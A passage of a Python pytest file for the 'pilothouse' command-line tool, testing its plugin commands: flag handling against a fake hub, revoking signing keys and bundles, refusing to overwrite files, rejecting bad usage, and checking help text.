    def test_flags_before_the_verb(self, cli: Command, fake_hub: FakeHub) -> None:
        fake_hub.paged("/plugins", [])
        del cli.environment["DASK_PILOTHOUSE__ADDRESS"]
        assert cli("--address", fake_hub.address, "--token", "other", "plugin", "list").code == OK
        assert cli("plugin", "list", "--address", fake_hub.address, "--token", "other").code == OK
        assert [request.headers["Authorization"] for request in fake_hub.requests] == ["Bearer other"] * 2


class TestRevoke:
    def test_of_a_key(self, cli: Command, signed: str) -> None:
        said = cli("plugin", "revoke", "--key", "team.key", "--reason", "laptop stolen", "-o", "team.rev")
        assert said.code == OK
        assert said.out.splitlines() == [
            f"{signed} says of itself that it is not to be trusted any more.",
            "Written to team.rev.",
        ]
        assert verify(cli, "--revocation", "team.rev")["code"] == "revoked_key"

    def test_of_a_bundle(self, cli: Command, signed: str) -> None:
        said = cli(
            "plugin",
            "revoke",
            "--key",
            "team.key",
            "--bundle",
            "idle.bundle",
            "--reason",
            "leaks",
            "-o",
            "idle.rev",
        )
        assert said.code == OK, said.err
        assert verify(cli, "--revocation", "idle.rev")["code"] == "withdrawn"
        assert pack(cli, output="next.bundle", version="1.0.1").code == OK
        assert cli("plugin", "sign", "next.bundle", "--key", "team.key").code == OK
        trust = ["--trust", "team.key.pub", "--revocation", "idle.rev"]
        assert cli("plugin", "verify", "next.bundle", *trust).code == OK

    def test_of_a_bundle_of_others(self, cli: Command, signed: str) -> None:
        keygen(cli, "other.key")
        words = ["--key", "other.key", "--bundle", "idle.bundle", "--reason", "x", "-o", "idle.rev"]
        said = cli("plugin", "revoke", *words)
        assert said.code == FAILED
        assert "the key has not signed idle.bundle" in said.err
        assert not Path("idle.rev").exists()

    def test_overwrites_nothing(self, cli: Command, signed: str) -> None:
        Path("team.rev").write_text("mine")
        assert cli("plugin", "revoke", "--key", "team.key", "--reason", "x", "-o", "team.rev").code == FAILED
        assert Path("team.rev").read_text() == "mine"

    @pytest.mark.parametrize(
        "flags",
        [["--reason", "x"], ["-o", "f"], ["--reason", "", "-o", "f"], ["--reason", "x" * 1001, "-o", "f"]],
    )
    def test_wrong_usage(self, cli: Command, signed: str, flags: list[str]) -> None:
        assert cli("plugin", "revoke", "--key", "team.key", *flags).code == USAGE
        assert not Path("f").exists()

    def test_a_statement_that_is_none(self, cli: Command, signed: str) -> None:
        Path("team.rev").write_bytes(b"PHREVOKE")
        said = cli("plugin", "verify", "idle.bundle", "--trust", signed, "--revocation", "team.rev")
        assert said.code == FAILED
        assert said.err.startswith("pilothouse: team.rev: this is no revocation")


class TestHelp:
    def test_the_group_tells_the_flow(self, command: Command) -> None:
        text = command("plugin", "--help").out
        places = [text.index(f"  pilothouse plugin {verb}") for verb in ("keygen", "pack", "sign", "publish")]
        assert places == sorted(places)
        assert "plugins:" in text

    @pytest.mark.parametrize(
        "verb", ["keygen", "pack", "sign", "verify", "inspect", "publish", "list", "revoke"]
    )
    def test_every_verb_has_an_example(self, command: Command, verb: str) -> None:
        said = command("plugin", verb, "--help")
        assert said.code == OK
        assert f"  pilothouse plugin {verb}" in said.out
        assert verb in command("completion", "bash").out
